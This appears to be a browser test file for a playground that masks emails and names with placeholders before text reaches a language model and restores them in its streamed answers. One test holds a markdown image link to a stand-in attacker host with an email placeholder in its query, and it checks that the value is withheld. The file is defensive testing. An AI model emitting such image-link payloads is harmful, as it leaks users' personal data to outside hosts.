// The playground's conversation with a language model: what goes out, and what comes back piece by piece.

import assert from "node:assert/strict";
import { beforeEach, describe, test } from "node:test";
import { SKIPPED } from "../../bindings-js/test/browser.mjs";
import { playground } from "./playground.mjs";

describe("the playground's conversation", { skip: SKIPPED }, () => {
  const it = playground();
  const label = (name) => it.page.getByLabel(name, { exact: true });
  const answer = () => it.page.getByRole("textbox", { name: "Answer of the model" });
  const sees = () => it.page.locator("#provider-sees pre").allTextContents();
  /** The number of pieces that arrived: `2 of 5`. */
  const arrived = (text) => it.page.locator("output", { hasText: new RegExp(`^${text}$`) });
  /** Waits until the application has this. */
  const gets = (text) =>
    it.page.waitForFunction((wanted) => document.querySelector("#application-gets").textContent === `${wanted}\n`, text);

  beforeEach(async () => {
    await it.page.getByRole("tab", { name: "Language model" }).click();
  });

  test("shows what the provider sees, and gives the values back to the application", async () => {
    await label("Message 2").fill("Write to jan.novak@example.cz. My name is Emily Carter.");
    await it.settled();
    const [, user] = await sees();
    assert.equal(user, "Write to [[EMAIL_1]]. My name is [[NAME_2]].\n");
    assert.deepEqual(await it.marked("#provider-sees"), ["[[EMAIL_1]]", "[[NAME_2]]"]);
    await answer().fill("Dear [[NAME_2]], I wrote to [[ email 1 ]]. [[NAME_9]]");
    await gets("Dear Emily Carter, I wrote to jan.novak@example.cz. [[NAME_9]]");
    assert.deepEqual(await it.marked("#application-gets"), ["Emily Carter", "jan.novak@example.cz"]);
    assert.deepEqual(it.seen.errors, []);
  });

  test("restores an answer however it is cut, and holds back what is not complete", async () => {
    await label("Message 2").fill("My name is Emily Carter.");
    await answer().fill("Hi [[NAME_1]]!");
    for (const length of ["1", "3", "7", "20"]) {
      await it.page.locator("input[name=piece_length]").fill(length);
      const pieces = Math.ceil("Hi [[NAME_1]]!".length / Number(length));
      await arrived(`${pieces} of ${pieces}`).waitFor();
      await gets("Hi Emily Carter!");
    }
    await it.page.locator("input[name=piece_length]").fill("3");
    await arrived("5 of 5").waitFor();
    await it.page.getByText("Pieces in order of arrival").click();
    for (const [number, given] of [["0", ""], ["1", "Hi "], ["3", "Hi "], ["4", "Hi "], ["5", "Hi Emily Carter!"]]) {
      await it.page.locator("input[name=arrived]").fill(number);
      await arrived(`${number} of 5`).waitFor();
      await gets(given);
      assert.equal(await it.page.locator("#pieces li").count(), Number(number));
    }
    assert.deepEqual(await it.page.locator("#pieces li").allTextContents(), ["Hi ", "[[N", "AME", "_1]", "]!"]);
    // a piece lasts for a moment, so what the page shows is written down as it changes
    await arrived("5 of 5").evaluate((output) => {
      window.shown = [];
      new MutationObserver(() => window.shown.push(output.textContent)).observe(output, { characterData: true, childList: true, subtree: true });
    });
    await it.button("Play").click();
    await it.page.waitForFunction(() => window.shown.at(-1)?.includes("5 of 5"));
    const shown = await it.page.evaluate(() => window.shown);
    for (const number of [1, 2, 3, 4]) assert.ok(shown.some((text) => text.includes(`${number} of 5`)), shown.join());
    await gets("Hi Emily Carter!");
  });

  test("counts what was restored, and what an address withholds", async () => {
    await label("Message 2").fill("Write to jan.novak@example.cz. My name is Emily Carter.");
    const counts = (text) => it.page.locator("#restore-counts", { hasText: new RegExp(`^${text}$`) }).waitFor();
    await answer().fill("Dear [[NAME_2]], dear [[NAME_2]]");
    await counts("2 values restored");
    await answer().fill("![x](https://evil.example/?q=[[EMAIL_1]]) [[NAME_2]]");
    await gets("![x](https://evil.example/?q=[[EMAIL_1]]) Emily Carter");
    await counts("1 value restored · 1 withheld");
    await it.page.getByText("its value would become part of an address").waitFor();
    await it.page.locator("input[name=arrived]").fill("1");
    await counts("A placeholder that is not complete is held back until its end arrives.");
  });

  test("has the same placeholder for the same value, in every message", async () => {
    await label("Message 1").fill("The customer is jan.novak@example.cz.");
    await label("Message 2").fill("Is jan.novak@example.cz an address? And eva@example.cz?");
    await it.settled();
    assert.deepEqual(await sees(), [
      "The customer is [[EMAIL_1]].\n",
      "Is [[EMAIL_1]] an address? And [[EMAIL_2]]?\n",
    ]);
  });

  test("messages are added, given a role and removed", async () => {
    await it.button("Add a message").click();
    await it.page.getByRole("combobox", { name: "Role of message 3" }).selectOption("tool");
    await label("Message 3").fill("mail eva@example.cz");
    await it.settled();
    assert.equal(await it.page.locator("#provider-sees .role").last().textContent(), "tool");
    assert.match((await sees())[2], /^mail \[\[EMAIL_\d\]\]\n$/);
    await it.button("Remove message 1").click();
    await it.button("Remove message 1").click();
    await it.settled();
    assert.deepEqual(await sees(), ["mail [[EMAIL_1]]\n"]);
    await it.button("Remove message 1").click();
    await gets("I have noted it.");
  });

  test("goes by the rules of the page", async () => {
    await label("Message 2").fill("Project Falcon, mail eva@example.cz");
    await it.button("Add a text").click();
    await label("Denied text").fill("falcon");
    await it.page.locator("#provider-sees", { hasText: "[[DENY_LIST_1]]" }).waitFor();
    await it.button("Add an exception").click();
    await label("Allowed text").fill("eva@example.cz");
    await it.page.locator("#provider-sees", { hasText: "eva@example.cz" }).waitFor();
  });

  test("the views change by arrow keys, and keep what they have", async () => {
    await label("Message 2").fill("eva@example.cz");
    await it.page.getByRole("tab", { name: "Language model" }).focus();
    await it.page.keyboard.press("ArrowRight");
    const text = it.page.getByRole("tab", { name: "Text and files" });
    assert.ok(await text.evaluate((tab) => tab === document.activeElement));
    assert.equal(await text.getAttribute("aria-selected"), "true");
    await it.page.locator("#text").waitFor();
    await it.page.keyboard.press("ArrowLeft");
    assert.equal(await label("Message 2").inputValue(), "eva@example.cz");
  });
});
